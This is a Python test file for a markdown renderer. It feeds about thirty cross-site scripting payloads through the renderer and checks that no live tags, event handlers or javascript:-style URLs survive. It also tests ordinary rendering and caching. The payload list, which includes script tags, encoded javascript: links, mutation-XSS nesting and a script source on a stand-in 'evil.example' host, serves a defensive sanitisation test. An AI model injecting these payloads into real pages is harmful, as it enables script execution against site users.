from html.parser import HTMLParser

import pytest

from meetings.markdown import ALLOWED_TAGS, render_markdown

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<marquee onstart=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<<script>script>alert(1)<</script>/script>",
]


class LiveHtml(HTMLParser):
    """Collects what a browser would treat as live: tags, event handlers, URLs."""

    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name}")
            if name in {"href", "src", "action", "formaction"} and value:
                scheme = value.strip().split(":", 1)[0].lower() if ":" in value else ""
                if scheme and scheme not in {"http", "https", "mailto"}:
                    self.problems.append(f"{name}={value}")


def live_problems(html: str) -> list[str]:
    parser = LiveHtml()
    parser.feed(html)
    return parser.problems


@pytest.mark.parametrize("payload", XSS_VECTORS)
def test_no_xss_vector_survives(payload):
    html = str(render_markdown(payload))
    assert live_problems(html) == [], html
    assert "<script" not in html.lower()


def test_the_checker_catches_live_html():
    assert sorted(
        live_problems('<a href="javascript:x" onclick="y">a</a><script>')
    ) == [
        "attribute onclick",
        "href=javascript:x",
        "tag <script>",
    ]


def test_there_are_at_least_twenty_vectors():
    assert len(XSS_VECTORS) >= 20


def test_ordinary_markdown_still_renders():
    html = str(
        render_markdown(
            "## Agenda\n\n- [Lore] **bold** and [a link](https://github.com/a/b/pull/1)"
            "\n\n```\n# not a heading\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
        )
    )
    assert "<h2>Agenda</h2>" in html
    assert "<strong>bold</strong>" in html
    assert 'href="https://github.com/a/b/pull/1"' in html
    assert 'rel="nofollow noopener noreferrer"' in html
    assert "<pre><code># not a heading" in html
    assert "<table>" in html


def test_empty_input_renders_empty():
    assert render_markdown("") == ""


def test_one_text_never_leaks_into_the_next():
    # The converter is reused between renders; link definitions must not carry over.
    with_definition = str(
        render_markdown("see [docs]\n\n[docs]: https://example.org/d")
    )
    assert 'href="https://example.org/d"' in with_definition
    assert "href" not in str(render_markdown("see [docs] again"))


def test_repeated_renders_are_remembered_and_identical():
    from meetings.markdown import _render_memo

    text = "Same notes, #12 and **bold**"
    first = render_markdown(text, "example/widget")
    hits = _render_memo.cache_info().hits
    again = render_markdown(text, "example/widget")
    assert again == first
    assert _render_memo.cache_info().hits == hits + 1
    # The default repository is part of the key.
    assert "example/other/issues/12" in str(render_markdown(text, "example/other"))
